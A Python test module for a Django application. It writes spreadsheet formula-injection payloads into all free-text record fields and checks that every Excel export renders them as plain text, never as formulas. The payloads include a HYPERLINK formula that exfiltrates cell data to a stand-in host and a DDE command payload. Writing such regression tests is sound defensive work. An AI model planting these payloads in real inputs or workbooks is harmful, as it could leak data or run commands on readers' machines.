"""Every export of the URLconf, walked with formula-like text in the records it
lists: no cell of any workbook is a formula, and the text reads as typed.

The exports are the routes named `*-export` or under a `xuat-excel`/`.xlsx` path,
plus the timetables' `?dang=xlsx`; every view module that writes a workbook must
have a route in that list, so a new export cannot escape the walk."""

import inspect
import io
import itertools

import pytest
from django.apps import apps
from django.db import models
from openpyxl import load_workbook

from daotao.core.access import LECTURER_ROLES, Role
from daotao.core.exporting import XLSX_CONTENT_TYPE
from daotao.core.generated import registered_exports
from daotao.core.models import GeneratedFile
from daotao.people.tests.factories import PersonFactory
from daotao.tests.test_role_matrix import _objects, _url
from daotao.tests.urlwalk import walk

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&B5,"x")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(A1)",
)
# The timetables write a workbook for `?dang=xlsx` on their page's route.
QUERY = {
    "teaching:cohort-timetable": "?dang=xlsx&tuan=2026-03-02",
    "teaching:lecturer-timetable": "?dang=xlsx&tuan=2026-03-02",
    "teaching:room-timetable": "?dang=xlsx&tuan=2026-03-02",
}


def _is_export(route):
    return (
        route.name.endswith("-export")
        or "xuat-excel" in route.route
        or route.route.endswith(".xlsx")
        or route.qualified_name in QUERY
    )


EXPORTS = [r for r in walk() if r.namespace != "admin" and _is_export(r)]


def test_every_view_module_that_writes_a_workbook_is_walked():
    walked = {inspect.getmodule(r.callback).__name__ for r in EXPORTS}
    writers = set()
    for route in walk():
        module = inspect.getmodule(route.callback)
        source = (
            inspect.getsource(module) if module.__name__.startswith("daotao") else ""
        )
        if "xlsx_response(" in source or "export_response(" in source:
            writers.add(module.__name__)
    assert writers <= walked, writers - walked
    assert len(EXPORTS) >= 22


def _free_text_fields(model):
    """Fields a person types free text into: no choices, not unique, not a key,
    code, token or derived search/sort column."""
    together = {
        name
        for constraint in model._meta.constraints
        for name in getattr(constraint, "fields", ())
    } | {name for group in model._meta.unique_together for name in group}
    skip = ("key", "code", "token", "slug", "sha", "symbol", "serial", "email")
    for field in model._meta.concrete_fields:
        if not isinstance(field, models.CharField | models.TextField):
            continue
        if field.choices or field.unique or field.name in together:
            continue
        if any(part in field.name for part in skip):
            continue
        if isinstance(field, models.CharField) and field.max_length < 30:
            continue
        yield field


def _listed_everywhere(person, user, conference_pk):
    """Rows for the exports the role matrix's records leave empty: a placement
    after the course, a delegation leader on the contact sheet."""
    import datetime

    from daotao.outcomes.models import Placement
    from daotao.research.models import Delegate

    Placement.objects.create(
        enrollment=person.enrollments.get(),
        kind=Placement.Kind.APPOINTMENT,
        effective_on=datetime.date(2026, 10, 1),
        recorded_by=user,
    )
    walked = Delegate.objects.filter(delegation__conference_id=conference_pk)
    walked.filter(pk=walked.order_by("pk")[0].pk).update(role=Delegate.Role.LEADER)


def _poison():
    """Write the payloads into every free-text field of the project's records."""
    payloads = itertools.cycle(PAYLOADS)
    for model in apps.get_models():
        if not model.__module__.startswith("daotao.") or model._meta.app_label in (
            "core",
            "accounts",
            "portal",
        ):
            continue
        values = {f.name: _fitting(next(payloads), f) for f in _free_text_fields(model)}
        if values:
            model._default_manager.update(**values)


def _fitting(payload, field):
    """`payload`, or the longest one that fits the column (PostgreSQL checks)."""
    limit = getattr(field, "max_length", None) or len(payload)
    if len(payload) <= limit:
        return payload
    return max((p for p in PAYLOADS if len(p) <= limit), key=len)


def _everyone(make_user, person, objects):
    """One user holding every role that reaches an export (school-wide)."""
    from daotao.accounts.models import Membership

    user = make_user(Role.ADMINISTRATOR)
    user.person_id = objects["_teaching_person"]
    user.save(update_fields=["person"])
    for role in Role:
        if role in (Role.ADMINISTRATOR, Role.SUPERVISOR, Role.AGENCY_COORDINATOR):
            continue
        if role == Role.FACULTY_HEAD:
            Membership.objects.create(
                user=user,
                role=role,
                school=person.school,
                unit_id=objects["_faculty_unit"],
            )
        elif role not in LECTURER_ROLES:
            Membership.objects.create(user=user, role=role, school=person.school)
    return user


def _payloads_in(content, url):
    """The payloads a workbook shows as typed; fails on any formula cell."""
    sheet = load_workbook(io.BytesIO(content)).active
    texts = set()
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (url, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                texts.add(cell.value)
    return texts & set(PAYLOADS)


@pytest.fixture
def poisoned(client, make_user, school, agency):
    """The role matrix's records with the payloads in their text, and a user who
    reaches every export, signed in."""
    person = PersonFactory(school=school, agency=agency)
    objects = _objects(person, school)
    user = _everyone(make_user, person, objects)
    _listed_everywhere(person, user, objects["research"])
    _poison()
    client.force_login(user)
    return objects


@pytest.mark.django_db
def test_no_export_writes_a_formula(client, poisoned):
    seen, unreached = set(), []
    for route in EXPORTS:
        url = _url(route, poisoned) + QUERY.get(route.qualified_name, "")
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"] == XLSX_CONTENT_TYPE, url
        found = _payloads_in(response.content, url)
        if not found:
            unreached.append(url)
        seen |= found
    assert unreached == []
    assert seen == set(PAYLOADS)


@pytest.mark.django_db
def test_no_export_built_in_the_worker_writes_a_formula(
    client, poisoned, monkeypatch, django_capture_on_commit_callbacks
):
    """Every export registered for the worker, with the threshold at 0: the file it
    builds is as safe as the one written at once."""
    monkeypatch.setattr("daotao.core.listing.SYNC_ROWS", 0)
    registered = [r for r in EXPORTS if r.qualified_name in registered_exports()]
    assert {r.qualified_name for r in registered} == set(registered_exports())
    for route in registered:
        url = _url(route, poisoned)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.get(url)
        job = GeneratedFile.objects.filter(kind=route.qualified_name).latest("pk")
        assert response.url == f"/tep-tao-nen/{job.pk}/", url
        assert job.status == GeneratedFile.Status.DONE, (url, job.error)
        download = client.get(f"/tep-tao-nen/{job.pk}/tai-ve/")
        assert _payloads_in(b"".join(download.streaming_content), url), url
